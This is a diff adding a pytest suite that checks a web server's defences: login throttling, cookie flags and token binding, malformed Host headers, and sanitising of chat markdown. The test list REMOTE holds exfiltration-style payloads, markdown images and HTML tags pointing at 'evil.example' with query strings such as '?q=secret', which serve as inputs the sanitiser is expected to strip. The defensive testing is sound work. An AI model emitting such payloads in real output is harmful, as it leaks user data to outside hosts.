@@ -1,0 +1,202 @@
+"""The web page against a stranger, with a real server: throttled guessing, cookies bound to the token,
+SameSite/Secure cookies (over real TLS too), any Host header answered without a 500, and chat text
+that cannot make the browser fetch anything from another host."""
+
+from __future__ import annotations
+
+import http.client
+import socket
+import ssl
+import subprocess
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlencode
+
+import pytest
+
+from tobio.config.schema import KernelConfig
+from tobio.kernel import Kernel
+from tobio.web.safe import SafeMarkdown, clean
+from tobio.web.serve import WebServer, serve
+from tobio.web.throttle import FREE_TRIES, LoginThrottle
+
+from conftest import write
+from test_web import free_port
+from test_web_auth import ECHO, TOKEN, WRONG, fetch, login
+
+NEW_TOKEN = "a-brand-new-token-after-rotation-42"
+
+
+@pytest.fixture
+def kernel(duckdb_url: str, tmp_path: Path) -> Iterator[Kernel]:
+    k = Kernel(KernelConfig(modules=["scripted"]), database=duckdb_url).start()
+    try:
+        k.run(f"agent spawn {write(tmp_path / 'echo.yaml', ECHO)}")
+        yield k
+    finally:
+        k.close()
+
+
+@pytest.fixture(params=[TOKEN, None], ids=["token", "open"])
+def guarded(kernel: Kernel, request: pytest.FixtureRequest) -> Iterator[tuple[WebServer, int]]:
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port, request.param)
+    try:
+        yield server, port
+    finally:
+        server.stop()
+
+
+def post_login(port: int, password: str) -> int:
+    return fetch(port, "POST", "/login", body=urlencode({"username": "me", "password": password}),
+                 headers={"Content-Type": "application/x-www-form-urlencoded"})[0]
+
+
+def test_guessing_tokens_is_throttled(kernel: Kernel) -> None:
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port, TOKEN)
+    try:
+        throttled(port)
+    finally:
+        server.stop()
+
+
+def throttled(port: int) -> None:
+    started = time.monotonic()
+    statuses = [post_login(port, f"{WRONG}{i}") for i in range(300)]
+    assert statuses.count(429) >= 290, statuses[:20]  # all but the first few are refused unchecked
+    assert set(statuses) <= {302, 429}
+    assert post_login(port, TOKEN) == 429  # even the right token waits: no free guesses while throttled
+    assert time.monotonic() - started < 60
+
+
+def test_throttle_backs_off_exponentially_and_forgets_on_success() -> None:
+    now = [1000.0]
+    gate = LoginThrottle(clock=lambda: now[0])
+    for _ in range(FREE_TRIES - 1):
+        gate.failed("1.2.3.4")
+        assert gate.wait("1.2.3.4") == 0
+    waits = []
+    for _ in range(6):
+        gate.failed("1.2.3.4")
+        waits.append(gate.wait("1.2.3.4"))
+        now[0] += waits[-1]
+    assert waits == [0.5, 1.0, 2.0, 4.0, 8.0, 16.0]
+    assert gate.wait("5.6.7.8") == 0  # another client is not held up by this one
+    gate.succeeded("1.2.3.4")
+    assert gate.wait("1.2.3.4") == 0
+
+
+def test_cookies_are_samesite_strict_httponly_and_bound_to_the_token(kernel: Kernel) -> None:
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port, TOKEN)
+    try:
+        status, headers, _ = fetch(port, "POST", "/login", body=urlencode({"username": "me", "password": TOKEN}),
+                                   headers={"Content-Type": "application/x-www-form-urlencoded"})
+        assert status == 302
+        cookies = headers["set-cookie"]
+        assert cookies and all("samesite=strict" in c.lower() for c in cookies), cookies
+        assert all("httponly" in c.lower() for c in cookies if c.split("=")[0] in ("user", "tobio_login"))
+        assert not any("secure" in c.lower().replace("set-cookie", "") for c in cookies)  # plain http: no Secure
+        assert TOKEN not in " ".join(cookies)
+        cookie = login(port, TOKEN)
+        full = "; ".join(f"{c.split(';')[0]}" for c in cookies)
+        assert fetch(port, "GET", "/", headers={"Cookie": full})[0] == 200  # the control
+        without_binding = "; ".join(c.split(";")[0] for c in cookies if not c.startswith("tobio_login"))
+        assert fetch(port, "GET", "/", headers={"Cookie": without_binding})[0] == 302
+        assert cookie
+    finally:
+        server.stop()
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port, NEW_TOKEN)  # the token rotated: everyone is logged out
+    try:
+        assert fetch(port, "GET", "/", headers={"Cookie": full})[0] == 302
+        status, headers, _ = fetch(port, "GET", "/ws", headers={"Cookie": full, "Upgrade": "websocket"})
+        assert status in (302, 400, 403)
+        fresh = login(port, NEW_TOKEN)
+        assert fresh and fetch(port, "GET", "/", headers={"Cookie": fresh})[0] == 200
+    finally:
+        server.stop()
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port, TOKEN)  # the old token again: its cookies count again
+    try:
+        assert fetch(port, "GET", "/", headers={"Cookie": full})[0] == 200
+    finally:
+        server.stop()
+
+
+def test_over_tls_the_cookies_are_secure(kernel: Kernel, tmp_path: Path) -> None:
+    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
+    made = subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out",
+                           str(cert), "-days", "1", "-subj", "/CN=localhost"], capture_output=True)
+    if made.returncode != 0:
+        pytest.skip("openssl cannot make a test certificate here")
+    port = free_port()
+    server = serve(kernel, "127.0.0.1", port, TOKEN, certfile=str(cert), keyfile=str(key))
+    try:
+        assert server.url.startswith("https://")
+        context = ssl.create_default_context(cafile=str(cert))
+        context.check_hostname = False
+        conn = http.client.HTTPSConnection("127.0.0.1", port, timeout=30, context=context)
+        conn.request("POST", "/login", body=urlencode({"username": "me", "password": TOKEN}),
+                     headers={"Host": f"localhost:{port}", "Content-Type": "application/x-www-form-urlencoded"})
+        response = conn.getresponse()
+        cookies = [v for k, v in response.getheaders() if k.lower() == "set-cookie"]
+        conn.close()
+        assert response.status == 302 and cookies
+        assert all("secure" in c.lower() and "samesite=strict" in c.lower() for c in cookies), cookies
+    finally:
+        server.stop()
+
+
+@pytest.mark.parametrize("host", ["[::1]", "[::1]:{port}", "[::1]:99999", "[zz::1]", "localhost:abc", "localhost:{port}x",
+                                  "a b", "x" * 5000, "localhost:" + "9" * 400, "ｌｏｃａｌｈｏｓｔ", "localhost\t",
+                                  "127.0.0.1:{port}", "localhost.", "[::ffff:127.0.0.1]:{port}", "@", ":", "", "..",
+                                  "evil.example:{port}", "local_host", "-"])
+def test_no_host_header_gives_a_500(guarded: tuple[WebServer, int], host: str) -> None:
+    _, port = guarded
+    shown = host.replace("{port}", str(port))
+    for method, path in (("GET", "/"), ("GET", "/login"), ("POST", "/login"), ("GET", "/ws")):
+        status = raw_status(port, method, path, shown)
+        assert status is None or status in (200, 302, 400, 403, 404, 429), (shown[:40], method, path, status)
+        if shown.startswith("[::1]") and status is not None:
+            assert status == 400  # an IPv6 literal: a clear refusal, where Panel would fail with a 500
+
+
+def raw_status(port: int, method: str, path: str, host: str) -> int | None:
+    """The status for a request whose Host header is sent byte for byte (UTF-8 too); None if the
+    server closed the connection without an answer (tornado does for headers it cannot parse)."""
+    body = b"password=x" if method == "POST" else b""
+    request = (f"{method} {path} HTTP/1.1\r\n".encode() + b"Host: " + host.encode("utf-8") + b"\r\n"
+               + b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + str(len(body)).encode()
+               + b"\r\nConnection: close\r\n\r\n" + body)
+    with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
+        conn.sendall(request)
+        first = conn.recv(64)
+    if not first:
+        return None
+    return int(first.split(b" ")[1])
+
+
+REMOTE = ["![x](https://evil.example/pixel.png?q=secret)", '<img src="https://evil.example/a?q=1">',
+          '<img srcset="https://evil.example/b 2x">', '<span style="background:url(https://evil.example/c)">s</span>',
+          '<table background="https://evil.example/d"><tr><td>t</td></tr></table>',
+          '<video poster="https://evil.example/e"></video>', '<picture><source srcset="https://evil.example/f"></picture>',
+          '<svg><image href="https://evil.example/g"/></svg>', '<link rel="stylesheet" href="https://evil.example/h">',
+          '<iframe src="https://evil.example/i"></iframe>', '<object data="https://evil.example/j"></object>',
+          '<audio src="https://evil.example/k"></audio>', '<img src="//evil.example/l">', '<img src="/logout">',
+          '<a href="https://example.org/?q=ok">a link</a>']
+
+
+def test_rendered_chat_text_loads_nothing_from_anywhere() -> None:
+    for text in REMOTE:
+        shown = SafeMarkdown(text)._transform_object(text)["object"]  # type: ignore[no-untyped-call]
+        import html as html_module
+
+        markup = html_module.unescape(shown)
+        for attr in ("src=", "srcset=", "background=", "poster=", "style=", "data=", "url("):
+            assert attr not in markup, (text, markup)
+        assert "evil.example" not in markup or "<a " in markup, (text, markup)
+    link = clean('<a href="https://example.org/?q=ok">a link</a>')
+    assert 'href="https://example.org/?q=ok"' in link and 'rel="noopener noreferrer"' in link
